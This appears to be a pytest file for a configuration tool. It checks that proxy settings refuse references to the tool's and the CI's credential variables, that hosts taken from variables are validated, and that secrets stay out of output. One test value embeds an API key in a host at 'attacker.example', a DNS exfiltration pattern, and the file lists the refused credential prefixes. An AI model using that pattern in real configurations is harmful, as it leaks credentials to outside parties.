"""The tool's own credentials and the CI's are never proxy values, and a host filled in from a variable is a host.

A `${POSTPRESS_API_KEY}` in a proxy host would ship the API key to whoever answers the DNS lookup; a
`${RECONCILER_STATE}` password sends the database URL to a proxy. Both plan as `(sensitive)`, so a pull request
that adds one looks harmless: `validate`, `plan` and `apply` refuse them, with a positioned line.
"""

from __future__ import annotations

import re

import pytest

from reconciler.config import load_config
from reconciler.config.hosts import valid_host
from reconciler.errors import ConfigError
from tests.helpers import SENTINEL_KEY, assert_no_secrets

POSITIONED = re.compile(r"^a\.yaml:\d+:\d+: ", re.MULTILINE)
#: What the refused variables hold in these tests: none of it may show anywhere.
PLANTED = "planted-VALUE-93c1e7"

#: (variable, where it is used, the value's line, column): one of each refused prefix, in each proxy key.
REFUSED = [
    ("POSTPRESS_API_KEY", 'host: "${POSTPRESS_API_KEY}.attacker.example"', 5, 13),
    ("RECONCILER_STATE", 'password: "${RECONCILER_STATE}"', 7, 17),
    ("GITHUB_TOKEN", 'username: "${GITHUB_TOKEN}"', 7, 17),
    ("ACTIONS_ID_TOKEN_REQUEST_TOKEN", 'password: "x-${ACTIONS_ID_TOKEN_REQUEST_TOKEN}"', 7, 17),
    ("RUNNER_TEMP", 'username: "${RUNNER_TEMP}"', 7, 17),
    ("github_token", 'password: "${github_token}"', 7, 17),  # Windows reads names without regard to case
    ("Postpress_Api_Url", 'host: "${Postpress_Api_Url}"', 5, 13),
]


def config(use: str) -> str:
    """One account whose proxy uses `use` (a `host: ...` line 5, or another key's line 7)."""
    lines = [
        "version: 1",
        "accounts:",
        "  acc_1:",
        "    proxy:",
        "      host: proxy.example.com",
        "      port: 8080",
    ]
    if use.startswith("host:"):
        lines[4] = f"      {use}"
    else:
        lines.append(f"      {use}")
    return "\n".join(lines) + "\n"


@pytest.mark.parametrize(("name", "use", "line", "col"), REFUSED, ids=[name for name, *_ in REFUSED])
def test_a_reference_to_reconcilers_or_the_cis_credentials_is_refused_by_every_command(
    run, workdir, api, monkeypatch, name: str, use: str, line: int, col: int
) -> None:
    (workdir / "a.yaml").write_text(config(use))
    if name != "POSTPRESS_API_KEY":  # the api fixture set that one to the sandbox's key
        monkeypatch.setenv(name, PLANTED)
    monkeypatch.setenv("RECONCILER_STATE", str(workdir / "state.json"))  # where plan and apply keep it
    key = use.split(":")[0]
    expected = f"a.yaml:{line}:{col}: account 'acc_1': proxy.{key}: the variable {name} is refused: "

    validated = run("validate", "a.yaml")
    assert validated.code == 1, validated.err
    assert POSITIONED.findall(validated.err) == [f"a.yaml:{line}:{col}: "], validated.err  # one line
    assert expected in validated.err
    assert "POSTPRESS_*, RECONCILER_*, GITHUB_*, ACTIONS_*, RUNNER_*" in validated.err

    planned = run("plan", "a.yaml")
    assert planned.code == 1 and expected in planned.err, planned.out + planned.err

    applied = run("apply", "a.yaml", "--yes")
    assert applied.code == 1 and expected in applied.err, applied.out + applied.err
    assert api.stats.requests == 0
    for result in (validated, planned, applied):
        assert "Traceback" not in result.err
        assert_no_secrets(result.out, result.err, secrets=(PLANTED, SENTINEL_KEY))


def test_the_refusal_holds_for_the_defaults_and_for_an_unset_variable(write, monkeypatch) -> None:
    monkeypatch.delenv("GITHUB_TOKEN", raising=False)
    path = write(
        "a.yaml",
        """
        version: 1
        defaults:
          proxy: {password: "${GITHUB_TOKEN}"}
        accounts:
          a: {proxy: {host: h, port: 1}}
        """,
    )
    with pytest.raises(ConfigError) as caught:
        load_config(path, {})
    assert [str(p) for p in caught.value.problems] == [
        "a.yaml:3:21: defaults: proxy.password: the variable GITHUB_TOKEN is refused: POSTPRESS_*, "
        "RECONCILER_*, GITHUB_*, ACTIONS_*, RUNNER_* variables hold reconciler's or the CI's own credentials, "
        "which are never sent to a proxy; use a variable of your own"
    ]


def test_a_literal_dollar_brace_naming_such_a_variable_is_text_not_a_reference(write) -> None:
    path = write(
        "a.yaml", 'version: 1\naccounts:\n  a: {proxy: {host: h, port: 1, password: "$${GITHUB_TOKEN}"}}\n'
    )
    proxy = load_config(path, {}).accounts["a"].settings["proxy"]
    assert proxy["password"].reveal() == "${GITHUB_TOKEN}"


HOST_CONFIG = 'version: 1\naccounts:\n  acc_1:\n    proxy: {host: "${PROXY_HOST}", port: 8080}\n'


def test_a_host_from_a_variable_that_is_no_host_is_refused_at_apply_and_nothing_is_sent(
    run, write, api, monkeypatch
) -> None:
    write("a.yaml", HOST_CONFIG)
    monkeypatch.delenv("PROXY_HOST", raising=False)
    unset = run("plan", "a.yaml")  # without the variable, nothing to check: the plan says it is not known
    assert unset.code == 0 and "(not known here: PROXY_HOST unset)" in unset.out, unset.err

    monkeypatch.setenv("PROXY_HOST", "s3cr3t value")
    applied = run("apply", "a.yaml", "--yes")
    assert applied.code == 1, applied.out + applied.err
    assert api.stats.requests == 0
    assert (
        "a.yaml:4:19: account 'acc_1': proxy.host, filled in from the variable PROXY_HOST, is not a valid host "
        "name or IP address (the value is not shown: it may be secret)" in applied.err
    )
    assert_no_secrets(applied.out, applied.err, secrets=("s3cr3t value", "s3cr3t"))
    planned = run("plan", "a.yaml")  # where the variable is set, plan checks it too
    assert planned.code == 1 and "PROXY_HOST" in planned.err and "s3cr3t" not in planned.out + planned.err


def test_a_host_made_of_several_variables_names_them_all(write) -> None:
    path = write("a.yaml", 'version: 1\naccounts:\n  a: {proxy: {host: "${SUB}.${ZONE}", port: 1}}\n')
    with pytest.raises(ConfigError) as caught:
        load_config(path, {"SUB": "a/b", "ZONE": "example.com"})
    (problem,) = caught.value.problems
    assert "filled in from the variables SUB, ZONE, is not a valid host name" in str(problem)
    assert "a/b" not in str(problem)


@pytest.mark.parametrize("host", ["proxy.example.com", "10.0.0.7", "2001:db8::1", "münchen.example"])
def test_a_valid_host_from_a_variable_is_sent(run, write, api, monkeypatch, host: str) -> None:
    write("a.yaml", HOST_CONFIG)
    monkeypatch.setenv("PROXY_HOST", host)
    applied = run("apply", "a.yaml", "--yes")
    assert applied.code == 0, applied.out + applied.err
    assert api.stats.patched["acc_1"]["proxy"]["host"] == host


@pytest.mark.parametrize(
    ("host", "valid"),
    [
        ("proxy.example.com", True),
        ("proxy.example.com.", True),
        ("p_1.example", True),
        ("localhost", True),
        ("203.0.113.9", True),
        ("::1", True),
        ("fe80::1%eth0", True),
        ("bücher.example", True),
        ("x" * 63 + ".example", True),
        ("s3cr3t value", False),
        ("", False),
        ("a..b", False),
        ("-a.example", False),
        ("a-.example", False),
        ("x" * 64 + ".example", False),
        (("a" * 60 + ".") * 5, False),  # 305 characters
        ("1.2.3.999", False),
        ("host:8080", False),
        ("[::1]", False),
        ("http://h", False),
        ("h/path", False),
        ("h\n", False),
        ("a\u200bb.example", False),
    ],
)
def test_what_counts_as_a_host(host: str, valid: bool) -> None:
    assert valid_host(host) is valid


def test_a_port_from_a_variable_is_refused_with_the_reason(write) -> None:
    path = write("a.yaml", 'version: 1\naccounts:\n  a: {proxy: {host: h, port: "${PROXY_PORT}"}}\n')
    with pytest.raises(ConfigError) as caught:
        load_config(path, {"PROXY_PORT": "8080"})
    assert [str(p) for p in caught.value.problems] == [
        "a.yaml:3:30: accounts.a.proxy.port: expected an integer, got a string; a port is a number written in "
        "the file, never read from ${VAR}"
    ]
